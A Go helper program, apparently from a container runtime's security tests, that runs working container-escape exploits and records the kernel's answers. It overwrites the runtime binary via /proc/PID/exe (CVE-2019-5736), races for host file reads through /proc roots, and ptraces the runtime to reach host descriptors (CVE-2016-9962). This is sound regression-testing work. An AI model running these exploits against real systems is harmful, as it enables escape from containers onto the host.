// Command attacker is the hostile program the security tests run inside
// containers. Each mode performs one attack step and reports what the
// kernel answered, one "key value" pair per line, so the test decides what
// succeeded. It uses raw system calls only: no descriptors of its own beyond
// the ones it reports (the Go runtime's cgroup-aware GOMAXPROCS, which keeps
// cgroup files open, is off).

//go:debug containermaxprocs=0
//go:debug updatemaxprocs=0
package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker MODE ARGS...")
		os.Exit(2)
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "exe":
		exeAttack(args[0], args[1], args[2], args[3])
	case "exerace":
		exeRace(args[0], args[1], args[2])
	case "rootrace":
		rootRace(args[0], args[1], args[2])
	case "fds":
		fds(args)
	case "swap":
		swap(args[0], args[1], args[2])
	case "ptrace":
		ptraceAttack(args[0], args[1], args[2])
	case "maxrss":
		maxRSS(args)
	case "pause":
		for {
			unix.Pause()
		}
	default:
		fmt.Fprintln(os.Stderr, "unknown mode", os.Args[1])
		os.Exit(2)
	}
}

type report struct{ b bytes.Buffer }

func (r *report) add(key string, v any) {
	switch x := v.(type) {
	case error:
		if x == nil {
			v = "ok"
		} else if en, ok := x.(unix.Errno); ok {
			v = unix.ErrnoName(en)
		}
	case nil:
		v = "ok"
	}
	fmt.Fprintf(&r.b, "%s %v\n", key, v)
}

func (r *report) save(path string) {
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, r.b.Bytes(), 0o644); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	if err := os.Rename(tmp, path); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

// pids lists the processes visible in this pid namespace.
func pids() []int {
	fd, err := unix.Open("/proc", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil
	}
	defer unix.Close(fd)
	var out []int
	buf := make([]byte, 16384)
	for {
		n, err := unix.ReadDirent(fd, buf)
		if err != nil || n <= 0 {
			return out
		}
		var names []string
		_, _, names = unix.ParseDirent(buf[:n], -1, names)
		for _, name := range names {
			if pid, err := strconv.Atoi(name); err == nil {
				out = append(out, pid)
			}
		}
	}
}

func readFile(path string) ([]byte, error) {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	defer unix.Close(fd)
	var out []byte
	buf := make([]byte, 4096)
	for {
		n, err := unix.Read(fd, buf)
		if n > 0 {
			out = append(out, buf[:n]...)
		}
		if err != nil {
			return out, err
		}
		if n == 0 {
			return out, nil
		}
	}
}

// findByCmdline waits for a process (not this one) whose command line (its
// arguments joined by spaces) contains token, or starts with it when token
// begins with "^", and returns its pid.
func findByCmdline(token string, timeout time.Duration) int {
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		for _, pid := range pids() {
			if pid == os.Getpid() {
				continue
			}
			cmd, _ := readFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
			line := strings.ReplaceAll(strings.TrimRight(string(cmd), "\x00"), "\x00", " ")
			if strings.HasPrefix(token, "^") && strings.HasPrefix(line, token[1:]) ||
				!strings.HasPrefix(token, "^") && strings.Contains(line, token) {
				return pid
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
	return 0
}

func gone(pid int) bool {
	// A zombie still answers kill(0); its stat state is Z.
	data, err := readFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return true
	}
	i := bytes.LastIndexByte(data, ')')
	return i >= 0 && i+2 < len(data) && (data[i+2] == 'Z' || data[i+2] == 'X')
}

// exeAttack is CVE-2019-5736: take a handle on the executable of the process
// whose command line matches token (the runtime binary, run inside the
// container), let it go on (it blocks opening the FIFO fifo for writing),
// and once it has exited and the file goFile exists (nothing else runs the
// binary any more), open the handle for writing and overwrite the file's
// first bytes.
func exeAttack(token, out, fifo, goFile string) {
	var r report
	defer r.save(out)
	pid := findByCmdline(token, 30*time.Second)
	if pid == 0 {
		r.add("found", "no")
		return
	}
	r.add("found", pid)
	p := "/proc/" + strconv.Itoa(pid) + "/exe"
	link, err := os.Readlink(p)
	r.add("readlink", fmt.Sprintf("%q %v", link, errString(err)))
	fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
	r.add("open-path", err)
	if err == nil {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) == nil {
			r.add("exe-id", fmt.Sprintf("%d:%d", st.Dev, st.Ino))
		}
	}
	_, err = unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	r.add("open-write-running", err)
	// Let the runtime binary go on, and wait for it to exit.
	rfd, ferr := unix.Open(fifo, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	r.add("fifo", ferr)
	deadline := time.Now().Add(30 * time.Second)
	for !gone(pid) && time.Now().Before(deadline) {
		if rfd >= 0 {
			buf := make([]byte, 4096)
			unix.SetNonblock(rfd, true)
			unix.Read(rfd, buf)
		}
		time.Sleep(5 * time.Millisecond)
	}
	r.add("exited", gone(pid))
	if fd < 0 {
		return
	}
	for deadline := time.Now().Add(60 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		if _, err := os.Stat(goFile); err == nil {
			break
		}
	}
	wfd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
	r.add("open-write-exited", err)
	if err == nil {
		n, err := unix.Pwrite(wfd, []byte("PWNED!"), 0)
		r.add("write", fmt.Sprintf("%d %v", n, errString(err)))
	}
}

func errString(err error) string {
	if err == nil {
		return "ok"
	}
	if en, ok := err.(unix.Errno); ok {
		return unix.ErrnoName(en)
	}
	if pe, ok := err.(*os.PathError); ok {
		return errString(pe.Err)
	}
	return strings.ReplaceAll(err.Error(), " ", "_")
}

// exeRace is CVE-2019-5736 against processes the runtime starts in this
// pid namespace: it keeps opening /proc/N/exe of the pids about to be
// allocated, keeps every handle whose file is target (DEV:INO), and when
// stop exists, tries to open each for writing and overwrite it.
func exeRace(out, stop, target string) {
	var r report
	defer r.save(out)
	handles := map[int]bool{}
	attempts, hits := 0, 0
	for {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		last, err := readFile("/proc/sys/kernel/ns_last_pid")
		if err != nil {
			r.add("ns_last_pid", err)
			return
		}
		n, _ := strconv.Atoi(strings.TrimSpace(string(last)))
		for i := 0; i < 200; i++ {
			for pid := n + 1; pid <= n+2; pid++ {
				attempts++
				fd, err := unix.Open("/proc/"+strconv.Itoa(pid)+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
				if err != nil {
					continue
				}
				var st unix.Stat_t
				if unix.Fstat(fd, &st) == nil && fmt.Sprintf("%d:%d", st.Dev, st.Ino) == target && len(handles) < 64 {
					hits++
					handles[fd] = true
					continue
				}
				unix.Close(fd)
			}
		}
	}
	r.add("attempts", attempts)
	r.add("handles", hits)
	for fd := range handles {
		wfd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
		r.add("open-write", err)
		if err == nil {
			n, err := unix.Pwrite(wfd, []byte("PWNED!"), 0)
			r.add("write", fmt.Sprintf("%d %v", n, errString(err)))
			unix.Close(wfd)
		}
	}
}

// fds reports the descriptors this process was started with, its working
// directory, and whether each probe path (relative ones are taken from the
// working directory) can be read.
func fds(probes []string) {
	dfd, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		fmt.Println("fd-list", errString(err))
	} else {
		buf := make([]byte, 4096)
		for {
			n, err := unix.ReadDirent(dfd, buf)
			if err != nil || n <= 0 {
				break
			}
			var names []string
			_, _, names = unix.ParseDirent(buf[:n], -1, names)
			for _, name := range names {
				if name == strconv.Itoa(dfd) {
					continue
				}
				link, _ := os.Readlink("/proc/self/fd/" + name)
				fmt.Printf("fd %s %s\n", name, link)
			}
		}
		unix.Close(dfd)
	}
	wd, err := unix.Getwd()
	fmt.Printf("cwd %q %s\n", wd, errString(err))
	for _, p := range probes {
		data, err := readFile(p)
		fmt.Printf("probe %s %s %q\n", p, errString(err), strings.TrimSpace(string(data)))
	}
}

// swap exchanges a and b (a directory and a symlink) as fast as it can
// until stop exists: CVE-2021-30465's race against a mount destination.
func swap(a, b, stop string) {
	n := 0
	for {
		for i := 0; i < 1000; i++ {
			unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
			n++
		}
		if _, err := os.Stat(stop); err == nil {
			fmt.Println("swaps", n)
			return
		}
	}
}

// ptraceAttack is CVE-2016-9962: find the runtime process whose command
// line matches token while it sets a process up, and try to reach the
// host through it: ptrace it, list, follow and write its descriptors (its
// stdio are the host's), read its memory and environment, and read
// hostFile through its root and working directory.
func ptraceAttack(token, out, hostFile string) {
	var r report
	defer r.save(out)
	pid := findByCmdline(token, 30*time.Second)
	if pid == 0 {
		r.add("found", "no")
		return
	}
	r.add("found", pid)
	status, _ := readFile("/proc/" + strconv.Itoa(pid) + "/status")
	for _, line := range strings.Split(string(status), "\n") {
		if strings.HasPrefix(line, "Uid:") || strings.HasPrefix(line, "CapEff:") {
			r.add("status-"+strings.TrimSuffix(strings.Fields(line)[0], ":"), strings.Join(strings.Fields(line)[1:], ","))
		}
	}
	base := "/proc/" + strconv.Itoa(pid)
	err := unix.PtraceAttach(pid)
	r.add("ptrace-attach", err)
	if err == nil {
		var ws unix.WaitStatus
		unix.Wait4(pid, &ws, unix.WALL, nil)
		unix.PtraceDetach(pid)
	}
	dfd, err := unix.Open(base+"/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	r.add("fd-dir", err)
	if err == nil {
		unix.Close(dfd)
	}
	for fd := 0; fd < 8; fd++ {
		if link, err := os.Readlink(base + "/fd/" + strconv.Itoa(fd)); err == nil {
			r.add("fd-"+strconv.Itoa(fd), link)
		}
	}
	_, err = os.Readlink(base + "/exe")
	r.add("exe", errString(err))
	wfd, err := unix.Open(base+"/fd/2", unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
	r.add("fd-write", err)
	if err == nil {
		unix.Write(wfd, []byte("attacker-was-here\n"))
		unix.Close(wfd)
	}
	data, err := readFile(base + "/root" + hostFile)
	r.add("root-read", fmt.Sprintf("%s %q", errString(err), strings.TrimSpace(string(data))))
	data, err = readFile(base + "/cwd" + hostFile)
	r.add("cwd-read", fmt.Sprintf("%s %q", errString(err), strings.TrimSpace(string(data))))
	_, err = readFile(base + "/environ")
	r.add("environ", errString(err))
	_, err = unix.ProcessVMReadv(pid, []unix.Iovec{{Base: &make([]byte, 8)[0], Len: 8}}, []unix.RemoteIovec{{Base: 0x400000, Len: 8}}, 0)
	r.add("process-vm-readv", errString(err))
}

// maxRSS runs a command and prints its peak resident set size in KiB on
// stderr ("maxrss N"), exiting with its exit code. The command is forked
// from this small program, so the figure (which a process inherits across
// fork and execve) is not that of a large parent.
func maxRSS(args []string) {
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = os.Stdin, os.Stdout, os.Stderr
	cmd.Run()
	if cmd.ProcessState == nil {
		fmt.Fprintln(os.Stderr, "maxrss: could not run", args[0])
		os.Exit(125)
	}
	if ru, ok := cmd.ProcessState.SysUsage().(*syscall.Rusage); ok {
		fmt.Fprintf(os.Stderr, "maxrss %d\n", ru.Maxrss)
	}
	os.Exit(cmd.ProcessState.ExitCode())
}

// rootRace races for the root directory of the processes the runtime
// starts in this pid namespace: it keeps opening /proc/N/root/FILE for the
// next pids until stop exists, and reports each time it could read a file
// (hostFile, a path that exists only on the host).
func rootRace(out, stop, hostFile string) {
	var r report
	defer r.save(out)
	attempts, hits := 0, 0
	for {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		last, err := readFile("/proc/sys/kernel/ns_last_pid")
		if err != nil {
			r.add("ns_last_pid", err)
			return
		}
		n, _ := strconv.Atoi(strings.TrimSpace(string(last)))
		for i := 0; i < 200; i++ {
			for pid := n + 1; pid <= n+2; pid++ {
				attempts++
				data, err := readFile("/proc/" + strconv.Itoa(pid) + "/root" + hostFile)
				if err == nil {
					hits++
					if hits <= 3 {
						r.add("read", fmt.Sprintf("%q", strings.TrimSpace(string(data))))
					}
				}
			}
		}
	}
	r.add("attempts", attempts)
	r.add("hits", hits)
}
